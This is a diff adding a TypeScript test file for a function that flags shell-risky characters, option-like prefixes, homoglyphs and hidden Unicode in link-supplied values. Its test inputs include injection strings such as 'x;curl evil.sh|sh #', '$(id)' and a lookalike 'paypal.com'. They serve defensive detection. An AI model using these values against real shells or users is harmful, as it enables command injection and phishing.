@@ -1,0 +1,117 @@
+import assert from 'node:assert/strict'
+import { describe, test } from 'node:test'
+import fc from 'fast-check'
+import { type LinkRisk, linkRisksOf } from '../../../core/commands/link-risks.ts'
+
+const PLAIN = [
+  'db1',
+  'db-1.example.org',
+  'me@host:22',
+  '/var/log/app_1.log',
+  'https://example.org/a/b',
+  'a=b,c=d',
+  '1.2.3+build',
+  'x'.repeat(100),
+]
+
+const RISKY: Readonly<Record<string, readonly string[]>> = {
+  'x;curl evil.sh|sh #': [';', 'space', '|', '#'],
+  'a&b': ['&'],
+  $HOME: ['$'],
+  '`id`': ['`'],
+  '$(id)': ['$', '(', ')'],
+  'a<b>c': ['<', '>'],
+  "it's": ["'"],
+  'a"b': ['"'],
+  'wow!!': ['!'],
+  '~root': ['~'],
+  '*.txt': ['*'],
+  'a?': ['?'],
+  '[ab]': ['[', ']'],
+  '{a,b}': ['{', '}'],
+  'C:\\x': ['\\'],
+  '%PATH%': ['%'],
+  'a^b': ['^'],
+  'a b': ['space'],
+  '-o': ['start -'],
+  '--proxy=evil': ['start -'],
+  '+x': ['start +'],
+  // A Cyrillic letter, a full-width one, a dotless one, a Greek question mark, a combining mark.
+  'p\u0430ypal.com': ['\u0430'],
+  '\uff41': ['\uff41'],
+  '\u0131d': ['\u0131'],
+  'a\u037eb': ['\u037e'],
+  'e\u0301': ['\u0301'],
+  '\u{1d41a}': ['\u{1d41a}'],
+  'a\u202eb': ['hidden right-to-left override'],
+  'a\u200bb': ['hidden zero-width space'],
+  'a\u00a0b': ['hidden no-break space'],
+  [`${'x'.repeat(100)}y`]: ['long 101'],
+}
+
+describe('a value as the link filled it in', () => {
+  test('is harmless if it is a plain word', () => {
+    for (const value of PLAIN) assert.deepEqual(namesOf(value, [value]), [], value)
+  })
+
+  for (const [value, expected] of Object.entries(RISKY)) {
+    test(`names what is risky in ${JSON.stringify(value).slice(0, 30)}`, () => {
+      assert.deepEqual(namesOf(value, [value]), expected)
+    })
+  }
+
+  test('is never called plain if a shell could read more in it', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary', minLength: 1, maxLength: 12 }), (value) => {
+        assert.equal(linkRisksOf(value, [value]).length === 0, /^[\w./:@,=][\w./:@,=+-]*$/.test(value))
+      }),
+    )
+  })
+})
+
+/** By the link's value: what the reader made of it, and what is still risky. */
+const EDITED: Readonly<Record<string, readonly (readonly [value: string, expected: readonly string[]])[]>> = {
+  'x;id': [
+    ['x', []],
+    ['xid', []],
+    ['a;b', []],
+    ['$(hostname)', []],
+    ['y;id', [';']],
+    ['x;', [';']],
+    ['', []],
+  ],
+  'a;b;c': [['1;b;2', [';']]],
+  'a-x': [
+    ['-x', ['start -']],
+    ['-y', []],
+  ],
+  'a$ b': [['a$', ['$']]],
+  ['x'.repeat(200)]: [
+    ['x'.repeat(199), ['long 199']],
+    ['x', []],
+  ],
+}
+
+describe('a value that was edited since', () => {
+  for (const [link, edits] of Object.entries(EDITED)) {
+    for (const [value, expected] of edits) {
+      test(`keeps what is left of ${link.slice(0, 9)} in ${value.slice(0, 12) || 'nothing'}`, () => {
+        assert.deepEqual(namesOf(value, [link]), expected)
+      })
+    }
+  }
+
+  test('is the reader’s own without a link', () => {
+    assert.deepEqual(linkRisksOf('x;id', []), [])
+  })
+})
+
+function namesOf(value: string, links: readonly string[]): readonly string[] {
+  return linkRisksOf(value, links).map(nameOf)
+}
+
+function nameOf(risk: LinkRisk): string {
+  if (risk.kind === 'space') return 'space'
+  if (risk.kind === 'long') return `long ${risk.length}`
+  return risk.kind === 'character' ? risk.text : `${risk.kind} ${risk.text}`
+}
